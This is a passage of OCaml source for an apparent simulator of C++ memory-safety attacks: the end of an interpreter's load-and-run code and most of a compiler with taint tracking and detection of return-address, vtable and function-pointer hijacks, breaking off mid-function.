    store_scalar st.m addr ty v

(* The static (name, arity) pairs [builtin] dispatches on — the bytecode
   compiler pre-binds these so calls skip the name scan. Must stay in
   lockstep with the match in [builtin]. *)
let is_builtin name arity =
  match (name, arity) with
  | ("strlen" | "__arena_size" | "exit"), 1 -> true
  | ("strcpy" | "recv" | "store"), 2 -> true
  | ("strncpy" | "memcpy" | "memset"), 3 -> true
  | _ -> false

(* ------------------------------------------------------------------ *)
(* Loading and running                                                 *)

let build_env prog =
  let env = Layout.create_env () in
  List.iter (Layout.define env) prog.Ast.p_classes;
  env

(* Extra attack-target symbols present in every image, standing in for
   libc: the arc-injection listings redirect control to these. *)
let libc_symbols = [ "system"; "execve"; "setuid_root_helper" ]

let load ?heap_size ~config prog =
  Pna_telemetry.Trace.with_span ~cat:"interp" "load" @@ fun () ->
  let env = build_env prog in
  let m = Machine.create ?heap_size ~config env in
  ignore (Machine.register_function m "_start");
  List.iter (fun s -> ignore (Machine.register_function m s)) libc_symbols;
  List.iter
    (fun fn -> ignore (Machine.register_function m fn.Ast.fn_name))
    prog.Ast.p_funcs;
  Machine.emit_vtables m;
  List.iter
    (fun g ->
      let initialized = g.Ast.g_init <> Ast.Zero in
      let addr = Machine.add_global ~initialized m g.Ast.g_name g.Ast.g_type in
      match g.Ast.g_init with
      | Ast.Zero -> ()
      | Ast.Ival v -> store_scalar m addr g.Ast.g_type (Value.int_ v)
      | Ast.Fval v -> store_scalar m addr g.Ast.g_type (Value.float_ v)
      | Ast.Sval s -> Vmem.write_string ~tag:"global-init" (Machine.mem m) addr s)
    prog.Ast.p_globals;
  m

let run ?(max_steps = 2_000_000) ?(max_depth = 256) ?on_stmt ?on_tick m prog
    ~entry =
  let st =
    {
      m;
      prog;
      max_steps;
      max_depth;
      on_stmt;
      on_tick;
      steps = 0;
      depth = 0;
      pnew_counter = 0;
    }
  in
  Pna_telemetry.Trace.with_span ~cat:"interp"
    ~args:[ ("entry", Pna_telemetry.Trace.Str entry) ]
    "run"
  @@ fun () ->
  let status =
    try
      match Ast.find_func prog entry with
      | None -> Outcome.Crashed (Fmt.str "no entry point %s" entry)
      | Some fn -> (
        match invoke st ~caller:"_start" fn [] with
        | Some v -> Outcome.Exited (Value.as_int v)
        | None -> Outcome.Exited 0)
    with
    | Halt s -> s
    | Event.Security_stop e -> (
      match e with
      | Event.Canary_smashed _ -> Outcome.Stack_smashing_detected
      | Event.Out_of_memory _ -> Outcome.Out_of_memory
      | Event.Nx_blocked _ -> Outcome.Defense_blocked "nx-stack"
      | Event.Shadow_stack_blocked _ -> Outcome.Defense_blocked "shadow-stack"
      | Event.Bounds_blocked _ -> Outcome.Defense_blocked "bounds-check"
      | _ -> Outcome.Defense_blocked "defense")
    | Fault.Fault f -> Outcome.Crashed (Fault.to_string f)
    | Heap.Corrupted (a, msg) ->
      Outcome.Crashed (Fmt.str "heap corruption at 0x%08x: %s" a msg)
    | Type_error msg -> Outcome.Crashed (Fmt.str "type error: %s" msg)
  in
  Pna_telemetry.Trace.add_args
    [
      ("steps", Pna_telemetry.Trace.Int st.steps);
      ("status", Pna_telemetry.Trace.Str (Fmt.str "%a" Outcome.pp_status status));
    ];
  {
    Outcome.status;
    events = Machine.events m;
    output = Machine.output m;
    steps = st.steps;
  }

(* Convenience: load + input + run in one call. Loading a hostile source
   file can exhaust a segment (text/data/bss); classify that as an
   out-of-memory (or otherwise blocked) outcome instead of letting an
   exception escape. *)
let execute ?heap_size ?max_steps ?max_depth ?on_stmt ?on_tick ~config
    ?(input_ints = []) ?(input_strings = []) ?(entry = "main") prog =
  match load ?heap_size ~config prog with
  | m ->
    Machine.set_input ~ints:input_ints ~strings:input_strings m;
    run ?max_steps ?max_depth ?on_stmt ?on_tick m prog ~entry
  | exception (Failure msg | Invalid_argument msg) ->
    {
      Outcome.status = Outcome.Crashed (Fmt.str "image load failed: %s" msg);
      events = [];
      output = [];
      steps = 0;
    }
  | exception Event.Security_stop e ->
    let status =
      match e with
      | Event.Out_of_memory _ -> Outcome.Out_of_memory
      | Event.Canary_smashed _ -> Outcome.Stack_smashing_detected
      | _ -> Outcome.Defense_blocked "defense"
    in
    { Outcome.status; events = []; output = []; steps = 0 }
