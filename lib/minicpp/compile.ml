(** One-pass compiler from the MiniC++ AST to flat closure-threaded code.

    Each function body becomes an [instr array]: straight-line statements
    are [Do] closures, control flow is flattened to conditional branches
    ([Br]) and jumps ([Jmp]) whose targets are backpatched int refs. The
    compiler resolves what is static at compile time — frame slots for
    locals, sizeofs and alignments, builtin bindings, callee indices,
    constructor overloads — and leaves the rest to closures that
    transliterate {!Interp} case by case.

    The contract is exact observational equivalence with the tree-walking
    interpreter: same step counts (every expression node ticks once, every
    executed statement ticks once, in the same order), same machine events,
    same sanitizer observations, same taint, same outcome — gated by E19.

    Compiled units are immutable after {!compile} returns and are shared
    across domains, so nothing in {!t} may be mutated at run time (per-run
    mutable state lives in {!rt}); in particular there are no [Lazy]
    thunks here — OCaml 5 [Lazy] is not domain-safe. *)

open Pna_layout
module Machine = Pna_machine.Machine
module Event = Pna_machine.Event
module Vmem = Pna_vmem.Vmem

(* Compiled-code return: the VM's analogue of [Interp.Return_exc]. *)
exception Creturn of Value.t option

type rt = {
  m : Machine.t;
  mem : Vmem.t;  (** [Machine.mem m], cached — the scalar-access hot path *)
  u : t;
  max_steps : int;
  max_depth : int;
  on_stmt : (string -> Ast.stmt -> unit) option;
  on_tick : (int -> unit) option;
  mutable steps : int;
  mutable depth : int;
  mutable pnew_counter : int;
  mutable slots : (int * Ctype.t) option array;
      (** current frame's local cache, indexed by slot; [None] until the
          declaration executes (then {!Machine.lookup_var} decides) *)
  faddr : int array;
      (** per-function return-address cache ([function_addr + 5]), lazily
          filled; index [length u_funcs] is ["_start"] *)
  sizeof_memo : (Ctype.t, int) Hashtbl.t;
  fld_memo : (string * string, Layout.field) Hashtbl.t;
  meth_memo : (string * string, Class_def.meth) Hashtbl.t;
}

and cexpr = rt -> Value.t
and clv = rt -> int * Ctype.t

and instr =
  | Do of (rt -> unit)
  | Br of (rt -> bool) * int ref  (** fall through when true, else jump *)
  | Jmp of int ref

and cfunc = {
  c_name : string;
  c_params : (int * string * Ctype.t) list;  (** slot, name, type *)
  c_nslots : int;
  mutable c_code : instr array;
      (** mutable only for the two-phase build (bodies reference other
          functions by index); frozen once {!compile} returns *)
}

and t = {
  u_prog : Ast.program;
  u_env : Layout.env;
  u_funcs : cfunc array;  (** same order as [p_funcs] *)
  u_index : (string, int) Hashtbl.t;  (** first-wins, like [Ast.find_func] *)
}

let vzero = Value.int_ 0

(* [tick]'s cold half: hook armed or budget crossed. Split out so the
   hot path is one store, one pointer test and one compare, inlinable at
   every call site. *)
let tick_slow rt =
  (match rt.on_tick with Some f -> f rt.steps | None -> ());
  if rt.steps > rt.max_steps then
    raise (Interp.Halt (Outcome.Timeout { steps = rt.steps }))

let[@inline] tick rt =
  rt.steps <- rt.steps + 1;
  if rt.on_tick == None && rt.steps <= rt.max_steps then () else tick_slow rt

(* Scalar sizes need no environment ([Layout.sizeof] delegates them to
   [Ctype.scalar_size]); only aggregates go through the memo table. The
   split keeps pointer arithmetic and array indexing off the structural
   Hashtbl hash. *)
let sizeof_rt rt ty =
  match ty with
  | Ctype.Class _ | Ctype.Array _ -> (
    match Hashtbl.find_opt rt.sizeof_memo ty with
    | Some n -> n
    | None ->
      let n = Layout.sizeof (Machine.env rt.m) ty in
      Hashtbl.add rt.sizeof_memo ty n;
      n)
  | t -> Ctype.scalar_size t

let field_rt rt cname fname =
  let key = (cname, fname) in
  match Hashtbl.find_opt rt.fld_memo key with
  | Some f -> f
  | None ->
    let f = Layout.field_exn (Layout.of_class (Machine.env rt.m) cname) fname in
    Hashtbl.add rt.fld_memo key f;
    f

(* Successes are memoized; failures recompute so the Type_error text is
   re-raised exactly as the interpreter would. *)
let resolve_method_rt rt cname meth =
  let key = (cname, meth) in
  match Hashtbl.find_opt rt.meth_memo key with
  | Some m -> m
  | None ->
    let m = Interp.resolve_method (Machine.env rt.m) cname meth in
    Hashtbl.add rt.meth_memo key m;
    m

let lookup_var_slow rt name =
  match Machine.lookup_var rt.m name with
  | Some loc -> loc
  | None -> Interp.type_error "unbound variable %s" name

(* ------------------------------------------------------------------ *)
(* Fast scalar memory access                                           *)

(* Exactly [Interp.load_scalar], but value and taint come back from one
   packed combined Vmem read (one segment resolution, no intermediate
   allocation) and the result record is built directly. Cold scalar
   shapes — and the non-scalar type error — defer to the interpreter's
   path verbatim. *)
let load_fast rt addr (ty : Ctype.t) =
  let mem = rt.mem in
  match ty with
  | Ctype.Int | Ctype.Uint | Ctype.Ptr _ | Ctype.Fun_ptr ->
    let r = Vmem.read_u32_taint mem addr in
    { Value.prim = Value.I (r lsr 1); ty; tainted = r land 1 <> 0 }
  | Ctype.Char ->
    let r = Vmem.read_u8_taint mem addr in
    let b = r lsr 1 in
    let v = if b land 0x80 <> 0 then (b - 0x100) land 0xffffffff else b in
    { Value.prim = Value.I v; ty; tainted = r land 1 <> 0 }
  | Ctype.Uchar | Ctype.Bool ->
    let r = Vmem.read_u8_taint mem addr in
    { Value.prim = Value.I (r lsr 1); ty; tainted = r land 1 <> 0 }
  | Ctype.Short ->
    let r = Vmem.read_u16_taint mem addr in
    let b = r lsr 1 in
    let v = if b land 0x8000 <> 0 then (b - 0x10000) land 0xffffffff else b in
    { Value.prim = Value.I v; ty; tainted = r land 1 <> 0 }
  | Ctype.Ushort ->
    let r = Vmem.read_u16_taint mem addr in
    { Value.prim = Value.I (r lsr 1); ty; tainted = r land 1 <> 0 }
  | Ctype.Double ->
    let f, tainted = Vmem.read_f64_taint mem addr in
    { Value.prim = Value.F f; ty; tainted }
  | Ctype.Float ->
    let r = Vmem.read_u32_taint mem addr in
    {
      Value.prim = Value.F (Int32.float_of_bits (Int32.of_int (r lsr 1)));
      ty;
      tainted = r land 1 <> 0;
    }
  | Ctype.Void | Ctype.Class _ | Ctype.Array _ -> Interp.load_scalar rt.m addr ty

(* Exactly [Interp.store_scalar] (coerce to the location type, write with
   the value's taint), minus the intermediate coerced record. *)
let store_fast rt addr (ty : Ctype.t) (v : Value.t) =
  let mem = rt.mem in
  let taint = v.Value.tainted in
  match ty with
  | Ctype.Int | Ctype.Uint | Ctype.Ptr _ | Ctype.Fun_ptr ->
    let bits =
      match v.Value.prim with
      | Value.I n -> n
      | Value.F f -> int_of_float f land 0xffffffff
    in
    Vmem.write_u32 ~taint mem addr bits
  | Ctype.Char | Ctype.Uchar | Ctype.Bool ->
    let bits =
      match v.Value.prim with
      | Value.I n -> n
      | Value.F f -> int_of_float f land 0xffffffff
    in
    Vmem.write_u8 ~taint mem addr (bits land 0xff)
  | Ctype.Short | Ctype.Ushort ->
    let bits =
      match v.Value.prim with
      | Value.I n -> n
      | Value.F f -> int_of_float f land 0xffffffff
    in
    Vmem.write_u16 ~taint mem addr (bits land 0xffff)
  | Ctype.Double ->
    let f =
      match v.Value.prim with
      | Value.F f -> f
      | Value.I n -> float_of_int (Vmem.to_signed32 n)
    in
    Vmem.write_f64 ~taint mem addr f
  | Ctype.Float ->
    let f =
      match v.Value.prim with
      | Value.F f -> f
      | Value.I n -> float_of_int (Vmem.to_signed32 n)
    in
    Vmem.write_u32 ~taint mem addr
      (Int32.to_int (Int32.bits_of_float f) land 0xffffffff)
  | Ctype.Void | Ctype.Class _ | Ctype.Array _ ->
    Interp.store_scalar rt.m addr ty v

(* ------------------------------------------------------------------ *)
(* The dispatch loop and calls                                         *)

let exec_code rt (code : instr array) =
  let n = Array.length code in
  let pc = ref 0 in
  while !pc < n do
    match Array.unsafe_get code !pc with
    | Do f ->
      f rt;
      incr pc
    | Br (c, target) -> if c rt then incr pc else pc := !target
    | Jmp target -> pc := !target
  done

(* The legitimate return address for a frame pushed by [caller]: just past
   the call site, as the interpreter computes it from the caller's name. *)
let caller_ret rt caller =
  let a = rt.faddr.(caller) in
  if a >= 0 then a
  else begin
    let name =
      if caller = Array.length rt.u.u_funcs then "_start"
      else rt.u.u_funcs.(caller).c_name
    in
    let a = Machine.function_addr rt.m name + 5 in
    rt.faddr.(caller) <- a;
    a
  end

(* Mirrors [List.iter2]'s partial application in [Interp.invoke]: params
   are bound left to right until one list runs out, then the arity
   mismatch is reported. *)
let rec bind_params rt fname params argv =
  match (params, argv) with
  | [], [] -> ()
  | (slot, pname, pty) :: ps, v :: vs ->
    let addr = Machine.alloc_local rt.m ~name:pname ~ty:pty in
    store_fast rt addr pty v;
    rt.slots.(slot) <- Some (addr, pty);
    bind_params rt fname ps vs
  | _ -> Interp.type_error "arity mismatch calling %s" fname

let rec vinvoke rt ~caller fi argv =
  if rt.depth >= rt.max_depth then
    raise (Interp.Halt (Outcome.Crashed "stack overflow (call depth)"));
  let cf = rt.u.u_funcs.(fi) in
  ignore (Machine.push_frame rt.m ~func:cf.c_name ~ret_to:(caller_ret rt caller));
  rt.depth <- rt.depth + 1;
  let saved = rt.slots in
  rt.slots <- Array.make cf.c_nslots None;
  bind_params rt cf.c_name cf.c_params argv;
  let result =
    match exec_code rt cf.c_code with
    | () -> None
    | exception Creturn v -> v
  in
  rt.depth <- rt.depth - 1;
  rt.slots <- saved;
  match Machine.pop_frame rt.m with
  | Machine.Returned -> result
  | Machine.Hijacked { target; symbol; tainted } ->
    raise
      (Interp.Halt
         (Interp.classify rt.m ~via:Outcome.Return_address ~target ~symbol
            ~tainted))

(* Runtime name dispatch (method impls, function-pointer symbols):
   builtins first, exactly like [Interp.call_function]. *)
and call_by_name rt ~caller name argv =
  match Interp.builtin rt.m name argv with
  | Some r -> r
  | None -> (
    match Hashtbl.find_opt rt.u.u_index name with
    | Some fi -> vinvoke rt ~caller fi argv
    | None -> Interp.type_error "call to undefined function %s" name)

(* ------------------------------------------------------------------ *)
(* Strict binary operators (transliterated from [Interp.eval_binop])   *)

let strict_binop rt op (va : Value.t) (vb : Value.t) =
  let tainted = va.Value.tainted || vb.Value.tainted in
  let bool_ c = Value.int_ ~ty:Ctype.Bool ~tainted (if c then 1 else 0) in
  match (op, va.Value.ty, vb.Value.ty) with
  | Ast.Add, Ctype.Ptr el, _ when Ctype.is_integer vb.Value.ty ->
    Value.ptr ~ty:va.Value.ty ~tainted
      (Value.as_bits va + (Value.as_int vb * sizeof_rt rt el))
  | Ast.Add, _, Ctype.Ptr el when Ctype.is_integer va.Value.ty ->
    Value.ptr ~ty:vb.Value.ty ~tainted
      (Value.as_bits vb + (Value.as_int va * sizeof_rt rt el))
  | Ast.Sub, Ctype.Ptr el, _ when Ctype.is_integer vb.Value.ty ->
    Value.ptr ~ty:va.Value.ty ~tainted
      (Value.as_bits va - (Value.as_int vb * sizeof_rt rt el))
  | Ast.Sub, Ctype.Ptr el, Ctype.Ptr _ ->
    Value.int_ ~tainted ((Value.as_bits va - Value.as_bits vb) / sizeof_rt rt el)
  | (Ast.Eq | Ast.Ne), (Ctype.Ptr _ | Ctype.Fun_ptr), _
  | (Ast.Eq | Ast.Ne), _, (Ctype.Ptr _ | Ctype.Fun_ptr) ->
    bool_
      (if op = Ast.Eq then Value.as_bits va = Value.as_bits vb
       else Value.as_bits va <> Value.as_bits vb)
  | _ when Ctype.is_float va.Value.ty || Ctype.is_float vb.Value.ty -> (
    let x = Value.as_float va and y = Value.as_float vb in
    let flt v = Value.float_ ~tainted v in
    match op with
    | Ast.Add -> flt (x +. y)
    | Ast.Sub -> flt (x -. y)
    | Ast.Mul -> flt (x *. y)
    | Ast.Div -> flt (x /. y)
    | Ast.Lt -> bool_ (x < y)
    | Ast.Le -> bool_ (x <= y)
    | Ast.Gt -> bool_ (x > y)
    | Ast.Ge -> bool_ (x >= y)
    | Ast.Eq -> bool_ (x = y)
    | Ast.Ne -> bool_ (x <> y)
    | _ -> Interp.type_error "invalid float operation")
  | _ -> (
    let unsigned = va.Value.ty = Ctype.Uint || vb.Value.ty = Ctype.Uint in
    let x = if unsigned then Value.as_bits va else Value.as_int va in
    let y = if unsigned then Value.as_bits vb else Value.as_int vb in
    let ty = if unsigned then Ctype.Uint else Ctype.Int in
    let num v = Value.int_ ~ty ~tainted v in
    match op with
    | Ast.Add -> num (x + y)
    | Ast.Sub -> num (x - y)
    | Ast.Mul -> num (x * y)
    | Ast.Div ->
      if y = 0 then
        raise (Interp.Halt (Outcome.Crashed "SIGFPE: division by zero"))
      else num (x / y)
    | Ast.Mod ->
      if y = 0 then
        raise (Interp.Halt (Outcome.Crashed "SIGFPE: division by zero"))
      else num (x mod y)
    | Ast.Lt -> bool_ (x < y)
    | Ast.Le -> bool_ (x <= y)
    | Ast.Gt -> bool_ (x > y)
    | Ast.Ge -> bool_ (x >= y)
    | Ast.Eq -> bool_ (x = y)
    | Ast.Ne -> bool_ (x <> y)
    | Ast.Band -> num (x land y)
    | Ast.Bor -> num (x lor y)
    | Ast.Shl -> num (x lsl (y land 31))
    | Ast.Shr -> num ((x land 0xffffffff) lsr (y land 31))
    | Ast.And | Ast.Or ->
      raise
        (Interp.Halt
           (Outcome.Internal_error "logical operator reached strict evaluation")))

(* ------------------------------------------------------------------ *)
(* Expression compilation                                              *)

type ctx = {
  x_u : t;  (** skeleton unit: [u_index]/[u_funcs] valid, bodies pending *)
  x_env : Layout.env;
  x_prog : Ast.program;
  x_funcs : Ast.func array;
  x_self : int;  (** index of the function being compiled (the caller) *)
  x_fname : string;
  x_slots : (string, int) Hashtbl.t;
}

(* Position of a specific [Ast.func] (constructor overloads share a name,
   so the name index is not enough). *)
let func_index ctx fn =
  let rec go i = if ctx.x_funcs.(i) == fn then i else go (i + 1) in
  go 0

(* Can compiling [e] as an lvalue ever raise [Not_lvalue]? Shaped
   lvalues (variables, field/arrow/index/deref chains) never do — their
   failures are [Type_error]s, exactly as in the interpreter — so sites
   that probe "is this an lvalue?" ([Index] bases, method receivers) can
   skip the exception handler when the shape is static. [Field] recurses
   (its base is compiled as an lvalue); [Arrow]/[Deref]/[Index] evaluate
   their bases as expressions, which cannot raise [Not_lvalue]. *)
let rec shaped_lv = function
  | Ast.Var _ | Ast.Arrow _ | Ast.Index _ | Ast.Deref _ -> true
  | Ast.Field (b, _) -> shaped_lv b
  | Ast.Cast (_, e) -> shaped_lv e
  | _ -> false

(* Static shape of a placement's declared extent: only a literal
   address-of names an object with a definite size (cf.
   [Interp.declared_extent]); the pointee type still comes from the
   runtime value. *)
let compile_extent place =
  match place with
  | Ast.Addr _ ->
    fun rt (pv : Value.t) -> (
      match pv.Value.ty with
      | Ctype.Ptr ((Ctype.Class _ | Ctype.Array _) as pt) ->
        Some (sizeof_rt rt pt)
      | _ -> None)
  | _ -> fun _ _ -> None

let rec compile_lvalue ctx e : clv =
  match e with
  | Ast.Var name -> (
    match Hashtbl.find_opt ctx.x_slots name with
    | Some slot -> (
      fun rt ->
        match rt.slots.(slot) with
        | Some loc -> loc
        | None -> lookup_var_slow rt name)
    | None -> fun rt -> lookup_var_slow rt name)
  | Ast.Field (base, f) -> (
    let cb = compile_lvalue ctx base in
    fun rt ->
      let addr, ty = cb rt in
      match ty with
      | Ctype.Class c ->
        let fld = field_rt rt c f in
        (addr + fld.Layout.f_offset, fld.Layout.f_type)
      | _ -> Interp.type_error "field access on non-class %a" Ctype.pp ty)
  | Ast.Arrow (p, f) -> (
    let cp = compile_expr ctx p in
    fun rt ->
      let pv = cp rt in
      match pv.Value.ty with
      | Ctype.Ptr (Ctype.Class c) ->
        let fld = field_rt rt c f in
        (Value.as_bits pv + fld.Layout.f_offset, fld.Layout.f_type)
      | ty -> Interp.type_error "-> on non-class-pointer %a" Ctype.pp ty)
  | Ast.Index (base, idx) ->
    let cidx = compile_expr ctx idx in
    let cbase_lv = compile_lvalue ctx base in
    let cbase_ev = compile_expr ctx base in
    let ptr_path rt i =
      let pv = cbase_ev rt in
      match pv.Value.ty with
      | Ctype.Ptr el -> (Value.as_bits pv + (i * sizeof_rt rt el), el)
      | ty -> Interp.type_error "index on non-array %a" Ctype.pp ty
    in
    if shaped_lv base then
      fun rt ->
        let i = Value.as_int (cidx rt) in
        match cbase_lv rt with
        | addr, Ctype.Array (el, _) -> (addr + (i * sizeof_rt rt el), el)
        | _ -> ptr_path rt i
    else
      fun rt ->
        let i = Value.as_int (cidx rt) in
        (match (try Some (cbase_lv rt) with Interp.Not_lvalue -> None) with
        | Some (addr, Ctype.Array (el, _)) -> (addr + (i * sizeof_rt rt el), el)
        | _ -> ptr_path rt i)
  | Ast.Deref p -> (
    let cp = compile_expr ctx p in
    fun rt ->
      let pv = cp rt in
      match pv.Value.ty with
      | Ctype.Ptr el -> (Value.as_bits pv, el)
      | ty -> Interp.type_error "deref of non-pointer %a" Ctype.pp ty)
  | Ast.Cast (ty, e) ->
    let ce = compile_lvalue ctx e in
    fun rt ->
      let addr, _ = ce rt in
      (addr, ty)
  | _ -> fun _ -> raise Interp.Not_lvalue

and compile_expr ctx e : cexpr =
  match e with
  | Ast.Int n ->
    let v = Value.int_ n in
    fun rt ->
      tick rt;
      v
  | Ast.Flt f ->
    let v = Value.float_ f in
    fun rt ->
      tick rt;
      v
  | Ast.Str s ->
    fun rt ->
      tick rt;
      Value.ptr ~ty:(Ctype.Ptr Ctype.Char) (Machine.intern_string rt.m s)
  | Ast.Nullptr ->
    fun rt ->
      tick rt;
      Value.null
  | Ast.Cin ->
    fun rt ->
      tick rt;
      Value.int_ ~tainted:true (Machine.next_int rt.m)
  | Ast.Cin_str ->
    fun rt ->
      tick rt;
      let s = Machine.next_string rt.m in
      Value.ptr ~ty:(Ctype.Ptr Ctype.Char) ~tainted:true
        (Machine.intern_string ~tainted:true rt.m s)
  | Ast.Sizeof ty ->
    let v = Value.int_ ~ty:Ctype.Uint (Layout.sizeof ctx.x_env ty) in
    fun rt ->
      tick rt;
      v
  | Ast.Fun_addr f ->
    fun rt ->
      tick rt;
      Value.ptr ~ty:Ctype.Fun_ptr (Machine.function_addr rt.m f)
  | Ast.Addr e ->
    let clv = compile_lvalue ctx e in
    fun rt ->
      tick rt;
      let addr, ty = clv rt in
      Value.ptr ~ty:(Ctype.Ptr ty) addr
  | Ast.Var _ | Ast.Field _ | Ast.Arrow _ | Ast.Index _ | Ast.Deref _ -> (
    let clv = compile_lvalue ctx e in
    fun rt ->
      tick rt;
      let addr, ty = clv rt in
      match ty with
      | Ctype.Class _ -> Value.ptr ~ty:(Ctype.Ptr ty) addr
      | Ctype.Array (el, _) -> Value.ptr ~ty:(Ctype.Ptr el) addr
      | _ -> load_fast rt addr ty)
  | Ast.Un (op, e) -> compile_unop ctx op e
  | Ast.Bin (op, a, b) -> compile_binop ctx op a b
  | Ast.Cast (ty, e) -> (
    let ce = compile_expr ctx e in
    match ty with
    | Ctype.Float | Ctype.Double ->
      fun rt ->
        tick rt;
        Value.coerce ty (ce rt)
    | _ ->
      (* retype-after-coerce collapses to one record: coerce to a
         non-float type yields an [I] prim and the retype re-stamps the
         same [ty]. *)
      fun rt ->
        tick rt;
        let v = ce rt in
        let bits =
          match v.Value.prim with
          | Value.I n -> n
          | Value.F f -> int_of_float f land 0xffffffff
        in
        { Value.prim = Value.I bits; ty; tainted = v.Value.tainted })
  | Ast.Call (name, args) -> (
    let cargs = List.map (compile_expr ctx) args in
    if Interp.is_builtin name (List.length args) then
      fun rt ->
        tick rt;
        let argv = List.map (fun ce -> ce rt) cargs in
        match Interp.builtin rt.m name argv with
        | Some (Some v) -> v
        | Some None -> vzero
        | None -> (
          (* unreachable while [is_builtin] stays in lockstep; fall back to
             the interpreter's full dispatch order *)
          match call_by_name rt ~caller:ctx.x_self name argv with
          | Some v -> v
          | None -> vzero)
    else
      match Hashtbl.find_opt ctx.x_u.u_index name with
      | Some fi ->
        fun rt ->
          tick rt;
          let argv = List.map (fun ce -> ce rt) cargs in
          (match vinvoke rt ~caller:ctx.x_self fi argv with
          | Some v -> v
          | None -> vzero)
      | None ->
        (* the interpreter evaluates the arguments before failing *)
        fun rt ->
          tick rt;
          let _argv = List.map (fun ce -> ce rt) cargs in
          Interp.type_error "call to undefined function %s" name)
  | Ast.Mcall (obj, meth, args) ->
    let cobj_lv = compile_lvalue ctx obj in
    let cobj_ev = compile_expr ctx obj in
    let cargs = List.map (compile_expr ctx) args in
    let self = ctx.x_self in
    let obj_shaped = shaped_lv obj in
    fun rt ->
      tick rt;
      let obj_addr, cname =
        let lv =
          if obj_shaped then Some (cobj_lv rt)
          else try Some (cobj_lv rt) with Interp.Not_lvalue -> None
        in
        match lv with
        | Some (addr, Ctype.Class c) -> (addr, c)
        | _ -> (
          let pv = cobj_ev rt in
          match pv.Value.ty with
          | Ctype.Ptr (Ctype.Class c) -> (Value.as_bits pv, c)
          | ty -> Interp.type_error "method call on %a" Ctype.pp ty)
      in
      let mdef = resolve_method_rt rt cname meth in
      let this = Value.ptr ~ty:(Ctype.Ptr (Ctype.Class cname)) obj_addr in
      let argv = List.map (fun ce -> ce rt) cargs in
      let res =
        if mdef.Class_def.m_virtual then
          match Machine.dispatch rt.m ~obj_addr ~static_class:cname ~meth with
          | Machine.Virtual_ok impl -> call_by_name rt ~caller:self impl (this :: argv)
          | Machine.Virtual_hijacked { target; symbol; tainted } ->
            raise
              (Interp.Halt
                 (Interp.classify rt.m ~via:Outcome.Vtable ~target ~symbol
                    ~tainted))
        else call_by_name rt ~caller:self mdef.Class_def.m_impl (this :: argv)
      in
      (match res with Some v -> v | None -> vzero)
  | Ast.Fpcall (f, args) -> (
    let cf = compile_expr ctx f in
    let cargs = List.map (compile_expr ctx) args in
    let self = ctx.x_self in
    fun rt ->
      tick rt;
      let fv = cf rt in
      let target = Value.as_bits fv in
      let tainted = fv.Value.tainted in
      if target = 0 then
        raise (Interp.Halt (Outcome.Crashed "call through null function pointer"));
      let symbol = Machine.symbol_at rt.m target in
      if tainted then begin
        Machine.emit rt.m
          (Event.Fun_ptr_hijacked
             { name = "<indirect>"; actual = target; symbol; tainted });
        raise
          (Interp.Halt
             (Interp.classify rt.m ~via:Outcome.Function_pointer ~target ~symbol
                ~tainted))
      end
      else
        match symbol with
        | Some s when Hashtbl.mem rt.u.u_index s -> (
          let argv = List.map (fun ce -> ce rt) cargs in
          match call_by_name rt ~caller:self s argv with
          | Some v -> v
          | None -> vzero)
        | Some s ->
          raise
            (Interp.Halt
               (Outcome.Arc_injection
                  { via = Outcome.Function_pointer; symbol = s; tainted }))
        | None ->
          raise
            (Interp.Halt
               (Interp.classify rt.m ~via:Outcome.Function_pointer ~target
                  ~symbol ~tainted)))
  | Ast.New (ty, args) -> (
    let size = Layout.sizeof ctx.x_env ty in
    match ty with
    | Ctype.Class cname ->
      let cons = compile_construct ctx cname args in
      fun rt ->
        tick rt;
        let addr = Machine.malloc rt.m size in
        Machine.install_vptrs rt.m ~addr ~cname;
        cons rt addr;
        Value.ptr ~ty:(Ctype.Ptr ty) addr
    | _ ->
      fun rt ->
        tick rt;
        Value.ptr ~ty:(Ctype.Ptr ty) (Machine.malloc rt.m size))
  | Ast.New_arr (ty, n) ->
    let elsize = Layout.sizeof ctx.x_env ty in
    let cn = compile_expr ctx n in
    fun rt ->
      tick rt;
      let count = Value.as_int (cn rt) in
      if count <= 0 then
        raise (Interp.Halt (Outcome.Crashed "std::bad_alloc (array size)"));
      Value.ptr ~ty:(Ctype.Ptr ty) (Machine.malloc rt.m (count * elsize))
  | Ast.Pnew (place, ty, args) ->
    let cplace = compile_expr ctx place in
    let size = Layout.sizeof ctx.x_env ty in
    let align = Layout.alignof ctx.x_env ty in
    let cname = match ty with Ctype.Class c -> Some c | _ -> None in
    let extent = compile_extent place in
    let cons =
      match cname with Some c -> Some (compile_construct ctx c args) | None -> None
    in
    let fname = ctx.x_fname in
    fun rt ->
      tick rt;
      let pv = cplace rt in
      let addr = Value.as_bits pv in
      rt.pnew_counter <- rt.pnew_counter + 1;
      let site = Fmt.str "%s#pnew%d" fname rt.pnew_counter in
      ignore
        (Machine.placement_new ?cname ~align ?declared:(extent rt pv) rt.m ~site
           ~addr ~size);
      (match cons with Some k -> k rt addr | None -> ());
      Value.ptr ~ty:(Ctype.Ptr ty) addr
  | Ast.Pnew_arr (place, ty, n) ->
    let cplace = compile_expr ctx place in
    let cn = compile_expr ctx n in
    let elsize = Layout.sizeof ctx.x_env ty in
    let align = Layout.alignof ctx.x_env ty in
    let extent = compile_extent place in
    let fname = ctx.x_fname in
    fun rt ->
      tick rt;
      let pv = cplace rt in
      let addr = Value.as_bits pv in
      let count = Value.as_int (cn rt) in
      let size = count * elsize in
      if size < 0 then
        raise (Interp.Halt (Outcome.Crashed "std::bad_alloc (array size)"));
      rt.pnew_counter <- rt.pnew_counter + 1;
      let site = Fmt.str "%s#pnew%d" fname rt.pnew_counter in
      ignore
        (Machine.placement_new ~align ?declared:(extent rt pv) rt.m ~site ~addr
           ~size);
      Value.ptr ~ty:(Ctype.Ptr ty) addr

and compile_unop ctx op e =
  match op with
  | Ast.Neg ->
    let ce = compile_expr ctx e in
    fun rt ->
      tick rt;
      let v = ce rt in
      if Ctype.is_float v.Value.ty then
        Value.float_ ~ty:v.Value.ty ~tainted:v.Value.tainted (-.Value.as_float v)
      else Value.int_ ~ty:v.Value.ty ~tainted:v.Value.tainted (-Value.as_int v)
  | Ast.Not ->
    let ce = compile_expr ctx e in
    fun rt ->
      tick rt;
      let v = ce rt in
      Value.int_ ~ty:Ctype.Bool ~tainted:v.Value.tainted
        (if Value.truthy v then 0 else 1)
  | Ast.Preinc | Ast.Predec ->
    let clv = compile_lvalue ctx e in
    let delta = if op = Ast.Preinc then 1 else -1 in
    fun rt ->
      tick rt;
      let addr, ty = clv rt in
      let v = load_fast rt addr ty in
      let v' =
        match ty with
        | Ctype.Ptr el ->
